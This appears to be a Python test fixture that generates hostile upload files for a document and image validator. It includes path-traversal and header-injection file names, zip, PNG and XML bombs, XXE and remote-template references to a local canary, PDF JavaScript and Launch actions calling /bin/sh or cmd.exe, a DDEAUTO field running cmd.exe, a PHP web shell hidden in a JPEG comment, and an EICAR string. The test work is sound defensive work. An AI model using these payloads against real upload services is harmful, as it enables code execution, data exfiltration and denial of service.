"""Hostile files by name: (what it is called, its content). CANARY is an address that must never be asked."""

import io
import socket
import struct
import zlib
from zipfile import ZIP_DEFLATED, ZipFile

from tests.facilities import samples as s

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LISTENER = socket.create_server(("127.0.0.1", 0))
CANARY = f"http://127.0.0.1:{LISTENER.getsockname()[1]}/canary"
_JS = b"<< /S /JavaScript /JS (app.launchURL) >>"


MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def jpeg() -> bytes:
    return s.picture("JPEG")


def nested_bomb() -> bytes:
    content = s.zipped([("zeros", b"\0" * 3_000_000)])
    for _ in range(4):
        content = s.zipped([(f"{number}.zip", content) for number in range(8)])
    return content


def forged_bomb() -> bytes:
    return s.forged_size(s.docx(("word/media/a.png", b"\0" * 40_000_000)), b"word/media/a.png", 900_000)


def overlapping() -> bytes:
    """Two entries of the directory share the bytes of one part, as in bombs without nesting."""
    content = bytearray(s.docx(("word/a.xml", "<a/>"), ("word/b.xml", "<a/>")))
    second = content.rindex(b"PK\x01\x02")
    first = content.rindex(b"PK\x01\x02", 0, second)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def large_header(width: int, height: int) -> bytes:
    content = bytearray(jpeg())
    frame = content.index(b"\xff\xc0")
    struct.pack_into(">HH", content, frame + 5, height, width)
    return bytes(content)


def wide_webp() -> bytes:
    size = (16383 - 1).to_bytes(3, "little")
    body = (
        b"WEBPVP8X"
        + struct.pack("<I", 10)
        + b"\0\0\0\0"
        + size
        + size
        + b"VP8L"
        + struct.pack("<I", 8)
        + b"\x2f"
        + b"\xff" * 7
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def gif_and_zip() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + s.docx()


def renamed_xlsx() -> bytes:
    buffer = io.BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


def wrong_checksum() -> bytes:
    content = bytearray(s.png(20, 20, data=zlib.compress(b"\0" * 420)))
    content[content.index(b"IHDR") + 7] ^= 1
    return bytes(content)


def field(text: str) -> str:
    return "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in text.split("|"))


ENTITY = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{CANARY}">]><d>&x;</d>'
LAUGHS = '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True)
) + "]><d>&i;</d>"  # fmt: skip
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

NAMES = {
    "path upwards": ("../../etc/cron.d/a.jpg", jpeg),
    "windows path upwards": ("..\\..\\Windows\\a.jpg", jpeg),
    "nul in name": ("a.php\0.jpg", jpeg),
    "right to left": ("合同\u202egpj.exe.jpg", jpeg),
    "invisible letter": ("a\u200b.jpg", jpeg),
    "line break": ("a\r\nSet-Cookie: x.jpg", jpeg),
    "long name": ("长" * 300 + ".jpg", jpeg),
    "only an ending": (".jpg", jpeg),
    "php before jpg": ("a.php.jpg", jpeg),
    "exe before pdf": ("a.exe.pdf", s.pdf),
    "html before png": ("a.html.png", lambda: s.picture("PNG")),
    "no ending": ("photo", jpeg),
}
KINDS = {
    "zero bytes photo": ("a.jpg", lambda: b""),
    "zero bytes pdf": ("a.pdf", lambda: b""),
    "zero bytes word": ("a.docx", lambda: b""),
    "over 20 MB": ("a.jpg", lambda: jpeg() + b"\0" * (20 << 20)),
    "program": ("a.exe", lambda: b"MZ" + b"\0" * 200),
    "program as photo": ("a.jpg", lambda: b"MZ" + b"\0" * 200),
    "elf as pdf": ("a.pdf", lambda: b"\x7fELF" + b"\0" * 200),
    "shell script as photo": ("a.png", lambda: b"#!/bin/sh\ntouch /tmp/canary\n"),
    "svg": ("a.svg", lambda: SVG),
    "svg as png": ("a.png", lambda: SVG),
    "html as png": ("a.png", lambda: b"<html><script>alert(1)</script></html>"),
    "html as pdf": ("a.pdf", lambda: b"<html>%PDF-1.7 %%EOF</html>"),
    "gif": ("a.gif", lambda: s.picture("GIF")),
    "gif as jpg": ("a.jpg", lambda: s.picture("GIF")),
    "gif and zip": ("a.docx", gif_and_zip),
    "bitmap": ("a.bmp", lambda: s.picture("BMP")),
    "tiff as jpg": ("a.jpg", lambda: s.picture("TIFF")),
    "png as jpg": ("a.jpg", lambda: s.picture("PNG")),
    "pdf as jpg": ("a.jpg", s.pdf),
    "jpg as pdf": ("a.pdf", jpeg),
    "heic": ("a.heic", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100),
    "old word": ("a.doc", lambda: OLE + b"\0" * 600),
    "locked word": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "macro ending": ("a.docm", s.docx),
    "mhtml as word": ("a.docx", lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n"),
    "eicar": ("a.com", lambda: b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR"),
}
PICTURES = {
    "cut photo": ("a.jpg", lambda: s.picture("JPEG", (800, 600))[:900]),
    "cut png": ("a.png", lambda: s.picture("PNG", (800, 600))[:200]),
    "cut webp": ("a.webp", lambda: s.picture("WEBP", (800, 600))[:60]),
    "only a beginning": ("a.jpg", lambda: b"\xff\xd8\xff\xe0"),
    "garbage photo": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40),
    "photo of 65500 squared": ("a.jpg", lambda: large_header(65500, 65500)),
    "photo of 50.4 million": ("a.jpg", lambda: large_header(7100, 7100)),
    "png of 60000 squared": ("a.png", lambda: s.png(60000, 60000)),
    "png of two billion wide": ("a.png", lambda: s.png(2**31 - 1, 1)),
    "png of zeros": ("a.png", lambda: s.png(20000, 20000, data=s.zeros(50), depth=1)),
    "png text bomb": ("a.png", lambda: s.png(7, 7, (b"zTXt", b"k\0\0" + s.zeros(120)))),
    "png profile bomb": ("a.png", lambda: s.png(7, 7, (b"iCCP", b"k\0\0" + s.zeros(120)), data=b"\0")),
    "png wrong checksum": ("a.png", wrong_checksum),
    "png without size": ("a.png", lambda: s.png(0, 0)),
    "webp of 268 million": ("a.webp", wide_webp),
    "photo and zip": ("a.jpg", lambda: jpeg() + s.docx()),
    "png and zip": ("a.png", lambda: s.picture("PNG") + s.docx()),
    "photo and html": ("a.jpg", lambda: s.picture("JPEG", comment=b"<html><script>alert(1)</script>")),
    "photo and php": ("a.jpg", lambda: s.picture("JPEG", comment=b"<?php system($_GET[0]); ?>")),
}
PDFS = {
    "script on opening": ("a.pdf", lambda: s.pdf(_JS, catalog=b"/OpenAction 4 0 R")),
    "script inside": ("a.pdf", lambda: s.pdf(catalog=b"/OpenAction " + _JS)),
    "script by name": ("a.pdf", lambda: s.pdf(catalog=b"/Names << /JavaScript << /Names [(a) " + _JS + b"] >> >>")),
    "script spelt in numbers": ("a.pdf", lambda: s.pdf(b"<< /S /J#61vaScript /J#53 (app.alert) >>", catalog=b"/OpenAction 4 0 R")),
    "script compressed": ("a.pdf", lambda: s.packed_pdf(_JS)),
    "script on a page": ("a.pdf", lambda: s.pdf(page=b"/AA << /O " + _JS + b" >>")),
    "script nobody refers to": ("a.pdf", lambda: s.pdf().replace(b"xref\n0", b"9 0 obj\n" + _JS + b"\nendobj\nxref\n0", 1)),
    "kind behind a reference": ("a.pdf", lambda: s.pdf(b"/Java#53cript", b"<< /S 4 0 R >>", catalog=b"/OpenAction 5 0 R")),
    "launch": ("a.pdf", lambda: s.pdf(b"<< /S /Launch /F (/bin/sh) >>", catalog=b"/OpenAction 4 0 R")),
    "launch compressed": ("a.pdf", lambda: s.packed_pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "form sent away": ("a.pdf", lambda: s.pdf(f"<< /S /SubmitForm /F ({CANARY}) >>".encode())),
    "data fetched": ("a.pdf", lambda: s.pdf(b"<< /S /ImportData /F (a) >>")),
    "another file opened": ("a.pdf", lambda: s.pdf(b"<< /S /GoToR /F (\\\\\\\\evil\\\\a) >>")),
    "file inside": ("a.pdf", lambda: s.pdf(b"<< /F (a.exe) /EF << /F 5 0 R >> >>", s.stream(b"MZ", b"/Type /EmbeddedFile"))),
    "file pinned on": ("a.pdf", lambda: s.pdf(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]")),
    "film": ("a.pdf", lambda: s.pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]")),
    "moving form": ("a.pdf", lambda: s.pdf(s.stream(b"<xdp/>"), catalog=b"/AcroForm << /XFA 4 0 R >>")),
    "locked pdf": ("a.pdf", s.locked_pdf),
    "cut pdf": ("a.pdf", lambda: s.pdf()[:200]),
    "pdf and zip": ("a.pdf", lambda: s.pdf() + s.docx()),
    "pdf and html": ("a.pdf", lambda: s.pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<html><script>alert(1)</script>\n")),
    "pdf behind something": ("a.pdf", lambda: b"GIF89a" + s.pdf()),
    "pdf bomb": ("a.pdf", lambda: s.packed_pdf(b"", packed=s.zeros(150))),
    "deep pdf": ("a.pdf", lambda: s.pdf(b"[" * 20000 + b"]" * 20000)),
    "pages in a ring": ("a.pdf", lambda: s.pdf(pages=b"/Kids [2 0 R] /Count 1")),
    "no pages": ("a.pdf", lambda: s.pdf(pages=b"/Kids [] /Count 0")),
}  # fmt: skip
WORDS = {
    "word bomb": ("a.docx", lambda: s.docx(("word/media/a.png", b"\0" * 150_000_000))),
    "word bomb of many": ("a.docx", lambda: s.docx(*((f"word/media/{n}.png", b"\0" * 1_000_000) for n in range(220)))),
    "bomb in bombs": ("a.docx", lambda: s.docx(("word/media/a.zip", nested_bomb()))),
    "bomb of forged size": ("a.docx", forged_bomb),
    "shared bytes": ("a.docx", overlapping),
    "100000 entries": ("a.docx", lambda: s.crowded(100_000)),
    "2001 parts": ("a.docx", lambda: s.docx(*((f"word/{n}.xml", "<a/>") for n in range(2001)))),
    "locked parts": ("a.docx", lambda: s.encrypted_flag(s.docx())),
    "symbolic link": ("a.docx", lambda: s.docx((s.link_entry("word/media/a.png"), "/etc/passwd"))),
    "part upwards": ("a.docx", lambda: s.docx(("../../etc/a.xml", "<a/>"))),
    "absolute part": ("a.docx", lambda: s.docx(("/etc/a.xml", "<a/>"))),
    "drive letter": ("a.docx", lambda: s.docx(("C:/a.xml", "<a/>"))),
    "twice the same part": ("a.docx", lambda: s.docx(("WORD/document.xml", "<a/>"))),
    "entity": ("a.docx", lambda: s.docx(**{"word/document.xml": ENTITY})),
    "entity in relations": ("a.docx", lambda: s.docx(**{"_rels/.rels": ENTITY})),
    "entity in utf-16": ("a.docx", lambda: s.docx(**{"word/document.xml": ENTITY.encode("utf-16")})),
    "billion laughs": ("a.docx", lambda: s.docx(**{"word/document.xml": LAUGHS})),
    "remote template": ("a.docx", lambda: s.docx(("word/_rels/settings.xml.rels", s.relations("attachedTemplate", CANARY)))),
    "remote template quoted otherwise": (
        "a.docx", lambda: s.docx(("word/_rels/settings.xml.rels", s.relations("attachedTemplate", CANARY, quote="'"))),
    ),
    "remote template in utf-16": (
        "a.docx", lambda: s.docx(("word/_rels/settings.xml.rels", s.relations("attachedTemplate", CANARY, encoding="utf-16"))),
    ),
    "remote picture": ("a.docx", lambda: s.docx(("word/_rels/document.xml.rels", s.relations("image", CANARY)))),
    "remote frame": ("a.docx", lambda: s.docx(("word/_rels/webSettings.xml.rels", s.relations("frame", CANARY)))),
    "macros": ("a.docx", lambda: s.docx(("word/vbaProject.bin", OLE))),
    "macro document renamed": ("a.docx", lambda: s.docx(types=s.TYPES.replace(s.MAIN, MACRO_MAIN))),
    "template renamed": ("a.docx", lambda: s.docx(types=s.TYPES.replace("document.main", "template.main"))),
    "ole object": ("a.docx", lambda: s.docx(("word/embeddings/oleObject1.bin", OLE))),
    "ole object elsewhere": ("a.docx", lambda: s.docx(("word/media/a.bin", OLE))),
    "activex": ("a.docx", lambda: s.docx(("word/activeX/activeX1.xml", "<a/>"))),
    "html chunk": ("a.docx", lambda: s.docx(("word/afchunk.htm", "<html/>"), document="<w:altChunk/>")),
    "rtf chunk": ("a.docx", lambda: s.docx(("word/chunk.rtf", "{\\rtf1}"))),
    "program inside": ("a.docx", lambda: s.docx(("word/media/a.exe", b"MZ"))),
    "svg inside": ("a.docx", lambda: s.docx(("word/media/a.svg", SVG))),
    "ribbon": ("a.docx", lambda: s.docx(("customUI/customUI.xml", "<a/>"))),
    "dde field": ("a.docx", lambda: s.docx(document=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))),
    "dde field in pieces": ("a.docx", lambda: s.docx(document=field("DD|EAU|TO c:\\\\cmd.exe"))),
    "dde simple field": ("a.docx", lambda: s.docx(document='<w:fldSimple w:instr="DDE excel a b"/>')),
    "fetching field": ("a.docx", lambda: s.docx(document=field(f'INCLUDEPICTURE "{CANARY}" \\d'))),
    "something in the comment": ("a.docx", lambda: s.docx(comment=b"<script>alert(1)</script>")),
    "something behind": ("a.docx", lambda: s.docx() + b"MZ" + b"\0" * 50),
    "plain zip": ("a.docx", lambda: s.zipped([("a.txt", "x")])),
    "workbook renamed": ("a.docx", renamed_xlsx),
    "no index": ("a.docx", lambda: s.zipped([("word/document.xml", "<a/>")])),
    "broken xml": ("a.docx", lambda: s.docx(**{"word/document.xml": "<w:document"})),
    "cut word": ("a.docx", lambda: s.docx()[:300]),
}  # fmt: skip
ALL = {**NAMES, **KINDS, **PICTURES, **PDFS, **WORDS}
